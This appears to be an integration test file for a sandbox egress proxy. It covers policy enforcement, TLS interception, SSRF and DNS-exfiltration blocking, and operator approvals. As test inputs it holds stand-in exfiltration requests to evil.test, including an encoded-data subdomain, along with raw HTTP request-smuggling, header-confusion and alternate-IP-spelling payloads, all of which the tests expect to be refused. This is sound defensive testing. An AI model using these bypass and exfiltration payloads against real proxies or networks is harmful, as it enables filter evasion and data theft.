// The egress proxy through real sandboxes: the helper (native/build/nemoclaw-sandbox) runs curl,
// node and python3 in an empty network namespace; their only way out is 127.0.0.1:3128, which the
// helper relays to our proxy's unix socket with the caller preamble. Origins listen on 127.0.0.1
// outside; test names (*.test) resolve to 127.0.0.1 through the proxy's injected resolver, and the
// endpoints that should reach them list allowed_ips: [127.0.0.1]. Skipped when the helper is not built.
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect as netConnect, createServer as createNetServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApprovalQueue, policyStorePersistHook } from '../../src/approvals/index.ts';
import type { EgressProxyOptions } from '../../src/egress/index.ts';
import { PolicyStore, compileEgressRules } from '../../src/policy/index.ts';
import type { EgressRuleSet } from '../../src/policy/index.ts';
import { waitFor } from '../helpers/wait.ts';
import { connectProxy, pathsAndAuditedPolicies, rulesFrom, runInSandbox, startOrigins, startProxy } from './harness.ts';
import type { Origin, ProxyFixture, SandboxRun, SandboxRunOptions } from './harness.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const NODE_DIR = join(ROOT, 'node_modules/node');
const NODE = join(NODE_DIR, 'bin/node');

let origin: Origin;
let scratch = '';
let probe = '';

// A raw-socket probe run inside the sandbox: sends the bytes given (Python escapes) to the proxy
// listener and prints what came back (status line and body), so that tests can speak malformed
// HTTP that curl would never send.
const PROBE_PY = `
import socket, sys, ssl
data = sys.argv[1].encode('latin1').decode('unicode_escape').encode('latin1')
s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
s.sendall(data)
out = b''
try:
    while True:
        b = s.recv(65536)
        if not b: break
        out += b
        if len(sys.argv) > 2 and sys.argv[2] == 'first' and b'\\r\\n\\r\\n' in out: break
except socket.timeout:
    pass
sys.stdout.write(out.decode('latin1'))
`;

beforeAll(async () => {
  origin = await startOrigins();
  scratch = mkdtempSync(join(tmpdir(), 'nc-egress-sbx-'));
  chmodSync(scratch, 0o755);
  probe = join(scratch, 'probe.py');
  writeFileSync(probe, PROBE_PY, { mode: 0o644 });
});
afterAll(async () => {
  await origin?.close();
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

function sandboxed(fx: ProxyFixture, script: string, opts: SandboxRunOptions = {}): Promise<SandboxRun> {
  return runInSandbox(fx, script, { ...opts, ro: [NODE_DIR, probe, ...(opts.ro ?? [])], env: { PATH: `${join(NODE_DIR, 'bin')}:/usr/bin:/bin`, ...opts.env } });
}

const bodyOf = (out: string): Record<string, unknown> => {
  const start = out.indexOf('{');
  return JSON.parse(out.slice(start, out.indexOf('\n', start) < 0 ? undefined : out.indexOf('\n', start))) as Record<string, unknown>;
};

function policy(o: Origin): string {
  return `
network_policies:
  curl_api:
    endpoints:
      - { host: api.test, ports: [${o.httpPort}, ${o.httpsPort}], allowed_ips: [127.0.0.1] }
      - { host: "*.wild.test", port: ${o.httpPort}, allowed_ips: [127.0.0.1] }
      - { host: 127.0.0.1, port: ${o.httpsPort}, allowed_ips: [127.0.0.1] }
      - { host: no-ips.test, port: ${o.httpPort} }
      - { host: metadata.test, port: 80 }
      - { host: private.test, port: 80 }
      - { host: api.test, port: 3128, allowed_ips: [127.0.0.1] }
    binaries: [{ path: /usr/bin/curl }, { path: "/usr/bin/python3*" }]
  ro:
    endpoints:
      - { host: other.test, ports: [${o.httpPort}, ${o.httpsPort}], protocol: rest, access: read-only, allowed_ips: [127.0.0.1] }
    binaries: [{ path: /usr/bin/curl }, { path: "/usr/bin/python3*" }, { path: "${NODE}" }]
${pathsAndAuditedPolicies(o)}
`;
}

describe('egress through real sandboxes (curl, node, python3 inside; helper relay)', () => {
  let fx: ProxyFixture;
  beforeAll(async () => {
    fx = await startProxy(rulesFrom(policy(origin)), origin, { sandboxExtraCa: [origin.caPem] });
  });
  afterAll(async () => {
    await fx?.close();
  });

  it('allows by host, denies by host and port with the 403 JSON body; absolute-form forwarding', async () => {
    const r = await sandboxed(
      fx,
      `curl -sS http://api.test:${origin.httpPort}/hello?x=1; echo; curl -sS -w '%{http_code}' http://evil.test:${origin.httpPort}/; echo; curl -sS -w '%{http_code}' http://api.test:4444/; echo`,
    );
    const lines = r.stdout.split('\n');
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ ok: true, url: '/hello?x=1', host: `api.test:${origin.httpPort}` });
    // the 403 body ends with a newline; curl's -w output follows it
    expect(lines[2]).toBe('403');
    const body = bodyOf(lines[1] ?? '');
    expect(body).toMatchObject({ error: 'policy_denied', host: 'evil.test', port: origin.httpPort, binary: '/usr/bin/curl', method: 'GET', path: '/' });
    expect(String(body.hint)).toMatch(/^nemoclaw policy add --sandbox sb1 /);
    expect(lines[4]).toBe('403');
  });

  it('denies by binary: the same request from node (not in the rule) is refused at CONNECT', async () => {
    // Node's env-proxy agent tunnels even http:// URLs through CONNECT, so the 403 arrives before the tunnel.
    const r = await sandboxed(fx, `node -e "fetch('http://api.test:${origin.httpPort}/').then(r => console.log('STATUS', r.status), e => console.log('ERR', e.cause?.message ?? e.message))"`);
    expect(r.stdout).toMatch(/^(STATUS 403|ERR )/);
    expect(fx.events.some((e) => e.type === 'egress_denied' && e.binary === NODE && e.host === 'api.test')).toBe(true);
  });

  it('wildcard hosts: one label matches, two do not', async () => {
    const r = await sandboxed(fx, `curl -s -o /dev/null -w '%{http_code}\\n' http://a.wild.test:${origin.httpPort}/; curl -s -o /dev/null -w '%{http_code}\\n' http://a.b.wild.test:${origin.httpPort}/`);
    expect(r.stdout.split('\n').slice(0, 2)).toEqual(['200', '403']);
  });

  it('CA trust inside the sandbox: curl, node fetch (NODE_USE_ENV_PROXY=1) and python3 urllib reach an inspected HTTPS endpoint', async () => {
    const url = `https://other.test:${origin.httpsPort}/tls`;
    const r = await sandboxed(
      fx,
      [
        `curl -sS ${url}; echo`,
        `node -e "fetch('${url}').then(async r => console.log(r.status, await r.text()), e => console.log('ERR', e.cause?.code ?? e.message))"`,
        `python3 -c "import urllib.request; r = urllib.request.urlopen('${url}'); print(r.status, r.read().decode())"`,
      ].join('; '),
    );
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(3);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ scheme: 'https', url: '/tls' });
    expect(lines[1]).toMatch(/^200 \{/);
    expect(lines[2]).toMatch(/^200 \{/);
    // the inspected connection presented our leaf: the origin saw the proxy's request, not the client's TLS
    expect(origin.seen.filter((s) => s.url === '/tls' && s.scheme === 'https')).toHaveLength(3);
  });

  it('byte-relayed HTTPS (no L7 rules) keeps the origin certificate end to end', async () => {
    const r = await sandboxed(fx, `curl -sS https://api.test:${origin.httpsPort}/relay; echo; curl -sS -v -o /dev/null -w 'verify=%{ssl_verify_result}\\n' https://api.test:${origin.httpsPort}/ 2>&1 | grep -E 'issuer:|verify='`);
    expect(JSON.parse(r.stdout.split('\n')[0] ?? '')).toMatchObject({ scheme: 'https', url: '/relay' });
    // The trust bundle holds both CAs, so only the issuer tells a relay from an interception.
    expect(r.stdout).toMatch(/issuer:.*CN ?= ?nemoclaw sandbox CA test origin/);
    expect(r.stdout).not.toMatch(/issuer:.*CN ?= ?nemoclaw sandbox CA sb1/);
    expect(r.stdout).toContain('verify=0');
  });

  it('L7 read-only refuses POST over HTTPS (403 inside the tunnel; nothing reaches the origin)', async () => {
    const before = origin.seen.length;
    const r = await sandboxed(fx, `curl -sS -w ' %{http_code}' -X POST -d secret=1 https://other.test:${origin.httpsPort}/upload`);
    expect(r.stdout).toMatch(/ 403$/);
    expect(bodyOf(r.stdout)).toMatchObject({ error: 'policy_denied', method: 'POST', path: '/upload', host: 'other.test' });
    expect(origin.seen.slice(before).some((s) => s.method === 'POST')).toBe(false);
  });

  it('path and query rules, audit mode', async () => {
    const base = `http://localhost:${origin.httpPort}`;
    const codes = ['/repos/a/b', '/users/a', '/search?q=nemoclaw', '/search?q=other'].map((p) => `curl -s -o /dev/null -w '%{http_code}\\n' '${base}${p}'`);
    codes.push(`curl -s -o /dev/null -w '%{http_code}\\n' -X DELETE http://audit.test:${origin.httpPort}/thing`);
    const r = await sandboxed(fx, codes.join('; '));
    expect(r.stdout.trim().split('\n')).toEqual(['200', '403', '200', '403', '200']);
    expect(fx.events.some((e) => e.type === 'egress_audit' && e.method === 'DELETE' && e.binary === '/usr/bin/curl')).toBe(true);
  });

  it('SSRF: loopback, metadata and private targets are refused without allowed_ips, reachable with them', async () => {
    const r = await sandboxed(
      fx,
      [
        `curl -s -o /dev/null -w '%{http_code}\\n' http://no-ips.test:${origin.httpPort}/`,
        `curl -s -o /dev/null -w '%{http_code}\\n' http://metadata.test/latest/meta-data/`,
        `curl -s -o /dev/null -w '%{http_code}\\n' http://private.test/`,
        `curl -s -o /dev/null -w '%{http_code}\\n' https://127.0.0.1:${origin.httpsPort}/ -k`,
      ].join('; '),
    );
    expect(r.stdout.trim().split('\n')).toEqual(['403', '403', '403', '200']);
  });

  it('DNS exfiltration: a denied name is never resolved by the proxy, and the sandbox has no resolver', async () => {
    const before = fx.lookups.length;
    const r = await sandboxed(
      fx,
      `curl -s -o /dev/null -w '%{http_code}\\n' http://c2VjcmV0LWRhdGE.exfil.evil.test/; getent hosts c2VjcmV0.evil.test; echo getent=$?; python3 -c "import socket; socket.getaddrinfo('c2VjcmV0.evil.test', 80)" 2>/dev/null; echo py=$?`,
    );
    expect(r.stdout).toMatch(/^403\n/);
    expect(r.stdout).toMatch(/getent=[1-9]/);
    expect(r.stdout).toMatch(/py=[1-9]/);
    expect(fx.lookups.slice(before).filter((h) => h.includes('evil'))).toEqual([]);
  });

  it('alternate spellings and parser differentials sent raw from inside the sandbox', async () => {
    const h = `api.test:${origin.httpPort}`;
    const cases: Array<[string, RegExp]> = [
      [`CONNECT 2130706433:${origin.httpsPort} HTTP/1.1\\r\\nHost: 2130706433:${origin.httpsPort}\\r\\n\\r\\n`, /^HTTP\/1\.1 200/],
      [`CONNECT 0x7f.0.0.1:${origin.httpsPort} HTTP/1.1\\r\\nHost: 0x7f.0.0.1:${origin.httpsPort}\\r\\n\\r\\n`, /^HTTP\/1\.1 200/],
      [`CONNECT [::ffff:127.0.0.1]:${origin.httpsPort} HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]:${origin.httpsPort}\\r\\n\\r\\n`, /^HTTP\/1\.1 200/],
      [`CONNECT API.Test.:${origin.httpsPort} HTTP/1.1\\r\\nHost: API.Test.:${origin.httpsPort}\\r\\n\\r\\n`, /^HTTP\/1\.1 200/],
      [`CONNECT 127.1:${origin.httpPort} HTTP/1.1\\r\\nHost: 127.1:${origin.httpPort}\\r\\n\\r\\n`, /^HTTP\/1\.1 403/],
      [`CONNECT evil.test\\x00.api.test:${origin.httpsPort} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`GET http://api.test@evil.test:${origin.httpPort}/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`GET http://%61pi.test:${origin.httpPort}/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`GET http://${h}/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`CONNECT ${h} HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`GET http://${h}/ HTTP/1.1\\r\\nHost: ${h}\\r\\nHost: evil.test\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`POST http://${h}/ HTTP/1.1\\r\\nHost: ${h}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`GET http://${h}/ HTTP/1.1\\r\\nHost: ${h}\\r\\nX: a\\r\\n b\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      [`GET http://${h}/ HTTP/1.1\\nHost: ${h}\\n\\n`, /^HTTP\/1\.1 400/],
      [`CONNECT ${'a'.repeat(70)}.test:443 HTTP/1.1\\r\\nHost: ${'a'.repeat(70)}.test:443\\r\\n\\r\\n`, /^HTTP\/1\.1 400/],
      // a workload forging the relay preamble (to pass as curl for a curl-only endpoint) only sends a malformed request line
      [
        `NEMOCLAW/1 {"sandbox":"sb1","pid":1,"exe":"/usr/bin/curl","sha256":null,"uid":1000}\\nGET http://localhost:${origin.httpPort}/repos/a HTTP/1.1\\r\\nHost: localhost:${origin.httpPort}\\r\\n\\r\\n`,
        /^HTTP\/1\.1 400/,
      ],
    ];
    const script = cases.map(([raw]) => `python3 ${probe} '${raw}' first | head -1; echo`).join('; ');
    const r = await sandboxed(fx, script);
    const statuses = r.stdout.split('\n').filter((l) => l.startsWith('HTTP/'));
    expect(statuses).toHaveLength(cases.length);
    cases.forEach(([raw, want], i) => expect(statuses[i], raw).toMatch(want));
  });

  it('relayed CONNECT: the sandbox relay is never a target; CONNECT through curl -p is decided like any other; nested CONNECT in a byte relay reaches only the origin', async () => {
    // Precondition: nothing listens on the host's 127.0.0.1:3128 (the sandbox's 3128 is its relay).
    const hostPort = await new Promise<string>((done) => {
      const c = netConnect(3128, '127.0.0.1');
      c.once('connect', () => (c.destroy(), done('open')));
      c.once('error', (e: NodeJS.ErrnoException) => done(e.code ?? 'error'));
    });
    expect(hostPort, 'this test needs port 3128 on the host closed').toBe('ECONNREFUSED');
    const r = await sandboxed(
      fx,
      [
        `python3 ${probe} 'CONNECT 127.0.0.1:3128 HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\n\\r\\n'; echo`,
        `python3 ${probe} 'CONNECT api.test:3128 HTTP/1.1\\r\\nHost: api.test:3128\\r\\n\\r\\n'; echo`,
        `curl -s -o /dev/null -w '%{http_connect}\\n' -p -x http://127.0.0.1:3128 http://evil.test/ 2>/dev/null; echo`,
        `python3 ${probe} 'CONNECT api.test:${origin.httpPort} HTTP/1.1\\r\\nHost: api.test:${origin.httpPort}\\r\\n\\r\\nCONNECT nested.test:443 HTTP/1.1\\r\\nHost: nested.test:443\\r\\n\\r\\n' | head -c 300; echo; echo END`,
      ].join('; '),
    );
    const parts = r.stdout.split('\n');
    // 1. The relay's own address: no rule names it, so the proxy refuses it before any lookup or dial.
    const own = parts.findIndex((l) => l.startsWith('HTTP/1.1'));
    expect(parts[own]).toMatch(/^HTTP\/1\.1 403/);
    expect(r.stdout).toMatch(/"error":"policy_denied","host":"127\.0\.0\.1","port":3128/);
    // 2. An allowed name on port 3128 is dialled on the host, where nothing listens: the CONNECT
    //    never loops back into the sandbox relay.
    expect(r.stdout).toMatch(/HTTP\/1\.1 502[\s\S]*"error":"upstream_connect_failed"[\s\S]*ECONNREFUSED/);
    // 3. curl's proxy tunnel gets the proxy's 403 for a name no rule allows.
    expect(parts).toContain('403');
    expect(fx.events.some((e) => e.host === 'evil.test' && e.type === 'egress_denied')).toBe(true);
    // 4. The nested CONNECT rides inside the allowed byte relay to the origin (a plain HTTP server),
    //    which answers it itself: the proxy never sees nested.test.
    const nested = r.stdout.slice(r.stdout.lastIndexOf('HTTP/1.1 200'));
    expect(nested).toMatch(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/);
    expect(fx.events.some((e) => e.host === 'nested.test')).toBe(false);
    expect(fx.events.some((e) => e.type === 'egress_allowed' && e.host === 'api.test' && e.port === origin.httpPort)).toBe(true);
  });

  it('cross-sandbox use of a proxy socket is refused (a helper for sandbox sb2 pointed at sb1s socket)', async () => {
    const r = await sandboxed(fx, `curl -s -w ' %{http_code}' http://api.test:${origin.httpPort}/`, { sandboxId: 'sb2' });
    expect(r.stdout).toMatch(/proxy_refused[\s\S]* 403$/);
    expect(fx.events.some((e) => e.type === 'preamble_rejected' && e.reason.includes('sb2'))).toBe(true);
  });

  it('a replaced binary (sha256 differs from the pin) is denied and reported', async () => {
    const sbx = await startProxy(rulesFrom(policy(origin)), origin);
    try {
      // pin /usr/bin/curl with another digest first, as if the binary had changed since first use
      const s = await connectProxy(sbx.proxy.socketPath, { exe: '/usr/bin/curl', sha256: 'f'.repeat(64) });
      s.end(`GET http://api.test:${origin.httpPort}/ HTTP/1.1\r\nHost: api.test:${origin.httpPort}\r\nConnection: close\r\n\r\n`);
      await new Promise((r) => s.on('close', r).resume());
      const r = await sandboxed(sbx, `curl -s -w ' %{http_code}' http://api.test:${origin.httpPort}/`);
      expect(r.stdout).toMatch(/binary_replaced[\s\S]* 403$/);
      expect(sbx.events.some((e) => e.type === 'binary_replaced' && e.binary === '/usr/bin/curl')).toBe(true);
    } finally {
      await sbx.close();
    }
  });
});

describe('byte relays handed to the helper (bytes never cross the proxy)', () => {
  // Python holds one CONNECT tunnel open: one keep-alive request, "first", then it waits for the
  // connection to end (or 15 s) and says how it ended.
  const HOLD_PY = (port: number) => `
import socket
s = socket.create_connection(('127.0.0.1', 3128), timeout=15)
s.sendall(b'CONNECT api.test:${port} HTTP/1.1\\r\\nHost: api.test:${port}\\r\\n\\r\\n')
head = b''
while b'\\r\\n\\r\\n' not in head:
    head += s.recv(1)
print(head.split(b'\\r\\n')[0].decode())
s.sendall(b'GET /bytes/10 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
got = b''
while not got.endswith(b'aaaaaaaaaa'):
    got += s.recv(65536)
print('first', flush=True)
try:
    print('closed' if s.recv(65536) == b'' else 'data')
except socket.timeout:
    print('still open')
except ConnectionResetError:
    print('closed')
`;

  it('a download through a byte-relayed tunnel arrives intact and the proxy records its byte counts (relay: helper)', async () => {
    const fx = await startProxy(rulesFrom(policy(origin)), origin, { sandboxExtraCa: [origin.caPem] });
    try {
      const r = await sandboxed(fx, `curl -sS -o /dev/null -w '%{size_download} %{http_code}' https://api.test:${origin.httpsPort}/bytes/3000000`);
      expect(r.stdout).toBe('3000000 200');
      const closed = fx.events.filter((e) => e.type === 'egress_tunnel_closed');
      expect(closed).toHaveLength(1);
      expect(closed[0]).toMatchObject({ host: 'api.test', port: origin.httpsPort, address: '127.0.0.1', binary: '/usr/bin/curl', bytes: { relay: 'helper' } });
      expect(closed[0]?.bytes?.down).toBeGreaterThan(3_000_000);
      expect(closed[0]?.bytes?.up).toBeGreaterThan(0);
    } finally {
      await fx.close();
    }
  });

  it('300 tunnels open at once through one sandbox all carry their own bytes (the relay is not capped at 64)', async () => {
    const fx = await startProxy(rulesFrom(policy(origin)), origin);
    const many = `
import socket
N = 300
socks = []
for i in range(N):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=20)
    s.sendall(b'CONNECT api.test:${origin.httpPort} HTTP/1.1\\r\\nHost: api.test:${origin.httpPort}\\r\\n\\r\\n')
    socks.append(s)
ok = 0
for s in socks:
    head = b''
    while b'\\r\\n\\r\\n' not in head:
        b = s.recv(1)
        if not b: break
        head += b
    if head.startswith(b'HTTP/1.1 200'): ok += 1
print('open', ok)
for i, s in enumerate(socks):
    s.sendall(('GET /bytes/%d HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n' % (1000 + i)).encode())
good = 0
for i, s in enumerate(socks):
    got = b''
    while not got.endswith(b'a' * (1000 + i)) and len(got) < 5000:
        b = s.recv(65536)
        if not b: break
        got += b
    if (b'content-length: %d' % (1000 + i)) in got.lower(): good += 1
print('answered', good)
`;
    writeFileSync(join(scratch, 'many.py'), many, { mode: 0o644 });
    try {
      const r = await sandboxed(fx, `python3 ${join(scratch, 'many.py')}`, { ro: [join(scratch, 'many.py')], timeoutMs: 60_000 });
      expect(r.stdout.trim().split('\n')).toEqual(['open 300', 'answered 300']);
      // the helper reports every tunnel as the sandbox ends; the last reports may still be in flight
      const tunnelsClosed = () => fx.events.filter((e) => e.type === 'egress_tunnel_closed').length;
      await waitFor(() => tunnelsClosed() >= 300, () => `300 egress_tunnel_closed events (have ${tunnelsClosed()})`);
      expect(tunnelsClosed()).toBe(300);
    } finally {
      await fx.close();
    }
  });

  it('a reload that removes the rule ends a handed-off tunnel that is open; a dial to a closed port gets the 502 JSON', async () => {
    const closedPort = await new Promise<number>((res) => {
      const srv = createNetServer().listen(0, '127.0.0.1', () => {
        const p = (srv.address() as AddressInfo).port;
        srv.close(() => res(p));
      });
    });
    const text = `network_policies:\n  hold:\n    endpoints:\n      - { host: api.test, ports: [${origin.httpPort}, ${closedPort}], allowed_ips: [127.0.0.1] }\n    binaries: [{ path: /usr/bin/curl }, { path: "/usr/bin/python3*" }]\n`;
    const fx = await startProxy(rulesFrom(text), origin);
    writeFileSync(join(scratch, 'hold.py'), HOLD_PY(origin.httpPort), { mode: 0o644 });
    try {
      let reloaded = 0;
      const r = await sandboxed(fx, `python3 ${join(scratch, 'hold.py')}`, {
        ro: [join(scratch, 'hold.py')],
        onStdout: (all) => {
          if (all.includes('first') && reloaded === 0) reloaded = fx.proxy.reload(rulesFrom('network_policies: {}\n'));
        },
      });
      expect(r.stdout.trim().split('\n')).toEqual(['HTTP/1.1 200 Connection Established', 'first', 'closed']);
      expect(reloaded).toBe(1);
      expect(fx.events.some((e) => e.type === 'egress_closed_by_reload' && e.host === 'api.test')).toBe(true);

      fx.proxy.reload(rulesFrom(text));
      const refused = await sandboxed(fx, `python3 ${probe} 'CONNECT api.test:${closedPort} HTTP/1.1\\r\\nHost: api.test:${closedPort}\\r\\n\\r\\n'`);
      expect(refused.stdout).toMatch(/^HTTP\/1\.1 502 /);
      expect(bodyOf(refused.stdout)).toMatchObject({ error: 'upstream_connect_failed', host: 'api.test', port: closedPort, reason: expect.stringContaining('ECONNREFUSED') });
    } finally {
      await fx.close();
    }
  });
});

describe('approval round trip through a real sandbox', () => {
  const askText = (o: Origin) =>
    `version: 1\napprovals: { unmatched_egress: ask, timeout: 3s }\nnetwork_policies:\n  base:\n    endpoints:\n      - { host: other.test, port: ${o.httpPort}, protocol: rest, rules: [{ allow: { method: GET, path: /ok } }], allowed_ips: [127.0.0.1] }\n`;

  it('curl waits; approved -> succeeds; denied -> 403; timeout -> 403; deny always (that request only) survives a sandbox and proxy restart', async () => {
    const store = new PolicyStore(join(scratch, 'policy'));
    await store.set(askText(origin), { author: 'test', reason: 'initial' });
    const current = async (): Promise<EgressRuleSet> => compileEgressRules((await store.get())?.policy ?? { version: 1 });
    let rules = await current();
    const queue = new ApprovalQueue();
    const opts: Partial<EgressProxyOptions> = { approvals: queue };
    let fx = await startProxy(() => rules, origin, opts);
    queue.setPersistHook(
      policyStorePersistHook(store, async () => {
        rules = await current();
        fx.proxy.reload();
      }),
    );
    const by = { user: 'operator', origin: 'test' };
    const curl = (path: string) => `curl -s -w ' %{http_code}' http://other.test:${origin.httpPort}${path}`;
    try {
      // approved once
      const p1 = sandboxed(fx, curl('/wait-allow'));
      await waitFor(() => queue.list().length === 1, 'one pending approval', { withinMs: 15_000 });
      expect(queue.list()[0]).toMatchObject({ sandbox: 'sb1', kind: 'egress', binary: '/usr/bin/curl', host: 'other.test', method: 'GET', path: '/wait-allow' });
      await queue.decide(queue.list()[0]?.id ?? '', { verdict: 'allow', always: false, by });
      expect((await p1).stdout).toMatch(/"url":"\/wait-allow"[\s\S]* 200$/);
      // denied once
      const p2 = sandboxed(fx, curl('/wait-deny'));
      await waitFor(() => queue.list().length === 1, 'one pending approval', { withinMs: 15_000 });
      await queue.decide(queue.list()[0]?.id ?? '', { verdict: 'deny', always: false, by });
      const denied = await p2;
      expect(denied.stdout).toMatch(/ 403$/);
      expect(bodyOf(denied.stdout).reason).toMatch(/denied by operator/);
      // timeout (3 s in the policy)
      const timedOut = await sandboxed(fx, curl('/wait-timeout'));
      expect(timedOut.stdout).toMatch(/ 403$/);
      expect(bodyOf(timedOut.stdout).reason).toMatch(/timeout/);
      // deny always: written as a policy revision
      const p3 = sandboxed(fx, curl('/wait-always'));
      await waitFor(() => queue.list().length === 1, 'one pending approval', { withinMs: 15_000 });
      const res = await queue.decide(queue.list()[0]?.id ?? '', { verdict: 'deny', always: true, by });
      expect(res).toMatchObject({ persisted: true });
      expect((await p3).stdout).toMatch(/ 403$/);
      // restart the proxy from the store and run a fresh sandbox: denied at once, nothing queued
      await fx.close();
      rules = await current();
      fx = await startProxy(() => rules, origin, opts);
      const again = await sandboxed(fx, curl('/wait-always'));
      expect(again.stdout).toMatch(/ 403$/);
      expect(String(bodyOf(again.stdout).rule)).toMatch(/always_deny_GET_other_test_.*deny_rules/);
      expect(queue.list()).toEqual([]);
      // The rule covers that request only: another path on the same host is still asked.
      const other = sandboxed(fx, curl('/another-path'));
      await waitFor(() => queue.list().length === 1, 'one pending approval', { withinMs: 15_000 });
      expect(queue.list()[0]).toMatchObject({ host: 'other.test', method: 'GET', path: '/another-path' });
      await queue.decide(queue.list()[0]?.id ?? '', { verdict: 'allow', always: false, by });
      expect((await other).stdout).toMatch(/ 200$/);
    } finally {
      queue.close();
      await fx.close();
    }
  });
});
